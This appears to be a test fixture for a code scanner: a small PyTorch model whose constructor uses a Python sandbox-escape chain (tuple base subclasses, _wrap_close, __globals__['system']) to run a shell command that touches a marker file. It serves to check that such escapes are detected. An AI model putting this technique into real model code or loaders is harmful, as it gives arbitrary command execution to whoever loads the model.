# tries: Reach a class that opens files from a tuple, as in Python sandboxes of old.
# must: inspection attribute
from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.a = nn.Linear(4, 1)
        for each in ().__class__.__base__.__subclasses__():
            if each.__name__ == "_wrap_close":
                each.__init__.__globals__["system"]("touch " + MADE_FILE)

    def forward(self, x):
        return self.a(x)
